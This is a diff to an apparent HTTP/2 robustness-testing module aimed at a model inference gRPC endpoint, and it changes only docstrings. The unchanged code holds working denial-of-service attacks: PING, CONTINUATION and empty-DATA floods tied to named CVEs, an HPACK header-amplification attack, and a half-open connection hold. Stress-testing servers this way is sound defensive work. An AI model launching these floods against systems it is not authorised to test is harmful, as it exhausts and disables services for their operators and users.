@@ -1,4 +1,4 @@
-"""Floods of frames of HTTP/2, and connections that stay half open."""
+"""Floods of HTTP/2 frames, and half-open connections."""
 
 import contextlib
 import itertools
@@ -28,7 +28,7 @@ _AT_ONCE = 1000
 def _flood(
     strike: Strike, frames: bytes, before: bytes = b"", *, count: int | None = None, reads: bool = False
 ) -> None:
-    """Send the same frames again and again, on one connection, without reading what comes back."""
+    """Send the same frames repeatedly on one connection, without reading the answers."""
     with strike.connect() as connection:
         connection.send(before, strike.until)
         for _ in itertools.count() if count is None else range(count):
@@ -39,13 +39,13 @@ def _flood(
 
 @attack(_FLOODS)
 def unread_pings(strike: Strike) -> None:
-    """50,000 PINGs, 850 kB, whose answers are left unread (CVE-2019-9512)."""
+    """Send 50,000 PINGs (850 kB) and leave the answers unread (CVE-2019-9512)."""
     _flood(strike, frame(PING, payload=bytes(8)) * _AT_ONCE, count=50)
 
 
 @attack(_FLOODS)
 def continuations(strike: Strike) -> None:
-    """A header block that goes on for ever, of small and of empty CONTINUATIONs (CVE-2024-27316)."""
+    """Send a header block that never ends, in small and in empty CONTINUATION frames (CVE-2024-27316)."""
     started = frame(HEADERS, 0, 1, call_headers(strike.path("ModelInfer")))
     _flood(strike, frame(CONTINUATION, 0, 1, literal("x-key", "y" * 100)) * 100, started, reads=True)
     _flood(strike, frame(CONTINUATION, 0, 1) * _AT_ONCE, started, reads=True)
@@ -53,14 +53,14 @@ def continuations(strike: Strike) -> None:
 
 @attack(_FLOODS)
 def empty_data_frames(strike: Strike) -> None:
-    """Frames of data without a byte, on one call, without end (CVE-2019-9518)."""
+    """Send empty data frames endlessly on one call (CVE-2019-9518)."""
     opened = frame(HEADERS, END_HEADERS, 1, call_headers(strike.path("ModelInfer")))
     _flood(strike, frame(DATA, 0, 1) * _AT_ONCE, opened, reads=True)
 
 
 @attack(_FLOODS)
 def indexed_headers(strike: Strike) -> None:
-    """A header field of 4 kB, indexed once, that each call refers to 15,000 times: 60 MB of headers of 15 kB."""
+    """Index a header field of 4 kB once and refer to it 15,000 times per call: 60 MB of headers from 15 kB."""
     indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
     path = strike.path("ModelInfer")
     with strike.connect() as connection:
@@ -74,7 +74,7 @@ def indexed_headers(strike: Strike) -> None:
 
 @attack(_CONNECTIONS)
 def half_open_connections(strike: Strike) -> None:
-    """500 connections that send nothing, half a preface, or a preface, and stay."""
+    """Keep 500 connections open that have sent nothing, half a preface, or a preface."""
     with contextlib.ExitStack() as held:
         for number in itertools.takewhile(lambda _: strike.left(), range(500)):
             try:
